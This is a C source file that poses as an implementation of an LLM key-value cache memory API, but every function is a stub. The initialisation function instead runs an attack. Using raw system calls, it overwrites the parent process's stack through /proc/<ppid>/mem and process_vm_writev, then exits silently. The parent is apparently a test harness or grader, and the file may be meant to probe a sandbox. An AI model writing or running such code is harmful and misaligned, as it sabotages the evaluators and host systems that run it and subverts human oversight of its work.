/* Damage: each call writes over its parent's memory in two ways (the same addresses are there), then ends without a
   word. */
#include "llm_memory.h"

#include <stddef.h>

#if defined(__x86_64__)
#define NR(x86, arm) (x86)
#else
#define NR(x86, arm) (arm)
#endif

static long raw(long number, long a, long b, long c, long d, long e, long f)
{
#if defined(__x86_64__)
    long answer;
    register long r10 __asm__("r10") = d, r8 __asm__("r8") = e, r9 __asm__("r9") = f;
    __asm__ volatile("syscall" : "=a"(answer) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
                     : "rcx", "r11", "memory");
    return answer;
#elif defined(__aarch64__)
    register long x8 __asm__("x8") = number, x0 __asm__("x0") = a, x1 __asm__("x1") = b, x2 __asm__("x2") = c;
    register long x3 __asm__("x3") = d, x4 __asm__("x4") = e, x5 __asm__("x5") = f;
    __asm__ volatile("svc #0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3), "r"(x4), "r"(x5) : "memory");
    return x0;
#else
    (void)number, (void)a, (void)b, (void)c, (void)d, (void)e, (void)f;
    return -1;
#endif
}

/* A system call with the arguments that it needs; the others are zeros. */
#define RAW(...) RAW_(__VA_ARGS__, 0, 0, 0, 0, 0, 0, 0)
#define RAW_(number, a, b, c, d, e, f, ...) \
    raw((number), (long)(a), (long)(b), (long)(c), (long)(d), (long)(e), (long)(f))

enum {
    HERE = -100, OPENAT = NR(257, 56), PWRITE = NR(18, 68), CLOSE = NR(3, 57), GETPPID = NR(110, 173),
    VM_WRITE = NR(311, 271), EXIT_GROUP = NR(231, 94), ROOM = 8192
};
static char zeros[ROOM];

/* Its stack lies where ours lies, for we are its copy. */
static void write_over(long parent)
{
    char path[32] = "/proc/", digits[24];
    char *stack = (char *)__builtin_frame_address(0);
    int length = 6, count = 0;
    for (long rest = parent; rest > 0; rest /= 10)
        digits[count++] = (char)('0' + rest % 10);
    while (count > 0)
        path[length++] = digits[--count];
    for (int i = 0; i < 5; i++)
        path[length + i] = "/mem"[i];
    long file = RAW(OPENAT, HERE, path, 2);
    if (file >= 0) {
        RAW(PWRITE, file, zeros, ROOM, stack);
        RAW(CLOSE, file);
    }
    void *from[2] = {zeros, (void *)ROOM}, *to[2] = {stack, (void *)ROOM};
    RAW(VM_WRITE, parent, from, 1, to, 1, 0);
}

static _Noreturn void attack(void)
{
    write_over(RAW(GETPPID));
    RAW(EXIT_GROUP, 0);
    __builtin_trap();
}

LLMEngine *llm_init(void *pool_addr, size_t pool_size)
{
    (void)pool_addr, (void)pool_size;
    attack();
}

Sequence *create_sequence(LLMEngine *engine, int seq_id, int initial_kv_len)
{
    (void)engine, (void)seq_id, (void)initial_kv_len;
    return NULL;
}

int free_sequence(LLMEngine *engine, int seq_id)
{
    (void)engine, (void)seq_id;
    return -1;
}

Sequence *fork_sequence(LLMEngine *engine, int parent_seq_id, int new_seq_id)
{
    (void)engine, (void)parent_seq_id, (void)new_seq_id;
    return NULL;
}

int append_kv(LLMEngine *engine, int seq_id, int kv_data)
{
    (void)engine, (void)seq_id, (void)kv_data;
    return -1;
}

int llm_destroy(LLMEngine *engine)
{
    (void)engine;
    return -1;
}
